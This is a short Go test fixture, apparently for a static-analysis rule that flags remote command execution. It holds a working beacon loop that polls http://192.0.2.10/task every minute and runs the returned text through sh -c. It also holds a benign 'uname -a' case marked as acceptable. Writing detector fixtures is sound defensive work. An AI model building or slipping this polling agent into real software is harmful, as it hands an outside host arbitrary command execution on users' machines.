// An agent that polls a server and runs the tasks it gets through sh -c.
package main

import (
	"io"
	"net/http"
	"os/exec"
	"time"
)

func main() {
	for {
		resp, err := http.Get("http://192.0.2.10/task")
		if err == nil {
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			task := string(body)
			// ruleid: native_remote_command
			exec.Command("sh", "-c", task).Run()
			// ok: native_remote_command
			exec.Command("sh", "-c", "uname -a").Run()
		}
		time.Sleep(60 * time.Second)
	}
}
